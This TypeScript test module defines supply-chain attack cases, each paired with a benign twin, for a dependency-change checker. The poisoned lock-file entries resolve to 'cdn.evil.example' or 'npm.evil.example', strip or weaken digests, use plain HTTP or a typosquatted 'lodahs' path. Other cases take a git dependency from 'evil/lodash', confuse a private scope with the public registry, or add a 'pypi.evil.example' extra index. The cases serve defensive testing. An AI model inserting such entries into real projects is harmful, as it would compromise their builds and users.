import { type Attack, pass, security } from "../attack.ts";
import { runOf } from "../branch.ts";
import type { Changes } from "../files.ts";
import {
  asked,
  both,
  bumped,
  digest,
  type Locked,
  lists,
  locked,
  plus,
  registry,
  standing,
} from "../locked.ts";

const update = { update: ["lodash"] };

const poisonedEntry = (
  id: string,
  title: string,
  entry: Partial<Locked>,
  path = "package-lock.json",
): Attack => ({
  id,
  threat: "T153",
  title,
  build: runOf(lists(update), locked({ ...standing, lodash: { version: "4.17.20", ...entry } })),
  expect: security({ path }),
  twin: {
    title: "the next version of the same package, written by npm",
    build: runOf(lists(update), locked(bumped)),
    expect: pass,
  },
});

const poisoned: readonly Attack[] = [
  poisonedEntry("dependency-other-host", "a package of the lock file that is fetched from another host", {
    resolved: "https://cdn.evil.example/lodash-4.17.20.tgz",
    integrity: digest("evil"),
  }),
  poisonedEntry("dependency-integrity-removed", "a package of the lock file without its digest", {
    integrity: null,
  }),
  poisonedEntry("dependency-integrity-changed", "another digest for the same version", {
    integrity: digest("evil"),
  }),
  poisonedEntry("dependency-integrity-weakened", "a SHA-1 in the place of a SHA-512", {
    integrity: digest("lodash@4.17.20", "sha1"),
  }),
  poisonedEntry("dependency-unencrypted", "a package that is fetched by plain HTTP", {
    resolved: "http://registry.npmjs.org/lodash/-/lodash-4.17.20.tgz",
  }),
  poisonedEntry("dependency-of-another", "an entry whose address is another package's", {
    resolved: `${registry}/lodahs/-/lodahs-4.17.20.tgz`,
    integrity: digest("evil"),
  }),
];

const commit = "0123456789abcdef0123456789abcdef01234567";
const sources: readonly Attack[] = [
  {
    id: "dependency-from-git",
    threat: "T153",
    title: "a dependency that is taken from somebody's repository, no longer from the registry",
    build: runOf(
      lists(update),
      both(
        { ...asked, lodash: `git+ssh://git@github.com/evil/lodash.git#${commit}` },
        {
          ...standing,
          lodash: {
            version: "4.17.20",
            resolved: `git+ssh://git@github.com/evil/lodash.git#${commit}`,
            integrity: null,
          },
        },
      ),
    ),
    expect: security(),
    twin: {
      title: "a dependency that was taken from that repository before, at its next commit",
      build: runOf(
        lists(update, {
          files: both(
            { ...asked, lodash: "git+ssh://git@github.com/acme/lodash.git#v1" },
            {
              ...standing,
              lodash: {
                version: "4.17.20",
                resolved: `git+ssh://git@github.com/acme/lodash.git#${commit}`,
                integrity: null,
              },
            },
          ) as never,
        }),
        both(
          { ...asked, lodash: "git+ssh://git@github.com/acme/lodash.git#v2" },
          {
            ...standing,
            lodash: {
              version: "4.17.21",
              resolved: `git+ssh://git@github.com/acme/lodash.git#${"1".repeat(40)}`,
              integrity: null,
            },
          },
        ),
      ),
      expect: pass,
    },
  },
  {
    id: "dependency-from-unnamed-host",
    threat: "T153",
    title: "a new dependency from a host that nobody named, though the plan declares it",
    build: runOf(
      lists({ add: ["zod"] }),
      both(plus("zod"), {
        ...standing,
        zod: { version: "1.0.0", resolved: "https://npm.evil.example/zod-1.0.0.tgz" },
      }),
    ),
    expect: security({ path: "package-lock.json" }),
    twin: {
      title: "a new dependency from a host of the plan's network",
      build: runOf(
        lists({ add: ["zod"] }, { plan: { network: ["npm.acme.example"] } }),
        both(plus("zod"), {
          ...standing,
          zod: { version: "1.0.0", resolved: "https://npm.acme.example/zod/-/zod-1.0.0.tgz" },
        }),
      ),
      expect: pass,
    },
  },
  {
    id: "dependency-confused",
    threat: "T155",
    title: "a package of a private scope from the public registry",
    build: runOf(
      lists({ add: ["@acme/dates"] }, { files: privateScope({}) as never }),
      privateScope({ "@acme/dates": { version: "1.0.0" } }),
    ),
    expect: security({ path: "package-lock.json" }),
    twin: {
      title: "a package of a private scope from its own registry",
      build: runOf(
        lists({ add: ["@acme/dates"] }, { files: privateScope({}) as never }),
        privateScope({
          "@acme/dates": {
            version: "1.0.0",
            resolved: "https://npm.acme.example/@acme/dates/-/dates-1.0.0.tgz",
          },
        }),
      ),
      expect: pass,
    },
  },
  {
    id: "dependency-index-added",
    threat: "T155",
    title: "a further index of packages in requirements.txt",
    build: runOf(
      {
        targets: ["requirements.txt"],
        files: { "requirements.txt": "requests==2.32.3\n" },
        plan: { dependencies: { update: ["requests"] } },
      },
      { "requirements.txt": "--extra-index-url https://pypi.evil.example/simple\nrequests==2.32.4\n" },
    ),
    expect: security({ path: "requirements.txt" }),
    twin: {
      title: "the next version from the same index",
      build: runOf(
        {
          targets: ["requirements.txt"],
          files: { "requirements.txt": "requests==2.32.3\n" },
          plan: { dependencies: { update: ["requests"] } },
        },
        { "requirements.txt": "requests==2.32.4\n" },
      ),
      expect: pass,
    },
  },
];

function privateScope(more: Readonly<Record<string, Locked>>): Changes {
  const own = "https://npm.acme.example/@acme/money/-/money-1.0.0.tgz";
  const wanted = {
    ...asked,
    "@acme/money": "^1.0.0",
    ...Object.fromEntries(Object.keys(more).map((name) => [name, "^1.0.0"])),
  };
  return both(wanted, { ...standing, "@acme/money": { version: "1.0.0", resolved: own }, ...more });
}

/** Where packages come from, and their digests: T153, T155. */
export const dependencySourceCases: readonly Attack[] = [...poisoned, ...sources];
